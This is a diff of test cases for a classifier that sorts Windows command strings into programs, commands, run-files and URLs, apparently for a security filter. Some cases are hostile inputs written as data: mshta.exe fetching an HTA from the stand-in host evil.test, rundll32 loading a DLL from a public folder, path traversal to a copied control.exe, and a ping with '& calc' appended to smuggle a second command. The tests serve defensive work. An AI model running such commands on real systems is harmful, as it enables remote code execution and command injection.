@@ -242,6 +242,22 @@ def test_remote_desktop_typed_is_an_admins_but_from_a_web_page_a_command(
         (r"notepad C:\a.txt C:\b.txt", Shape.COMMAND),
         ("wt -p Debian bash -c id", Shape.COMMAND),
         ("wt -p", Shape.COMMAND),
+        # Windows' own program by its path in the system folder is the program of that name; a
+        # copy elsewhere given words runs as a file, and a script host by its path is a command
+        (r"%windir%\system32\control.exe /name Microsoft.Troubleshooting", Shape.PROGRAM),
+        (r"C:\Windows\SysWOW64\control.exe printers", Shape.PROGRAM),
+        (r"%SystemRoot%\System32\rundll32.exe sysdm.cpl,EditEnvironmentVariables", Shape.PROGRAM),
+        (r"%windir%\system32\..\..\Users\Public\control.exe printers", Shape.RUN_FILE),
+        (r"C:\Windows\Temp\control.exe /name Microsoft.Troubleshooting", Shape.COMMAND),
+        (r"C:\Users\Public\control.exe printers", Shape.RUN_FILE),
+        (r"%windir%\system32\rundll32.exe C:\Users\Public\x.dll,Start", Shape.COMMAND),
+        (r"%windir%\system32\mshta.exe https://evil.test/x.hta", Shape.COMMAND),
+        # ping and tracert with one computer and their counting switches: a network check
+        ("ping -t 192.0.2.1", Shape.PROGRAM),
+        ("tracert -d -h 15 fs01.corp.example", Shape.PROGRAM),
+        ("ping -t 192.0.2.1 -t", Shape.COMMAND),
+        (r"ping -t \\192.0.2.1\s", Shape.COMMAND),
+        ("ping -n 1 192.0.2.1 & calc", Shape.COMMAND),
         # a shell folder, and a folder inside it named without dots
         (r"shell:Local AppData\Microsoft\WindowsApps", Shape.URL),
         (r"shell:Local AppData\..\..\Windows", Shape.COMMAND),
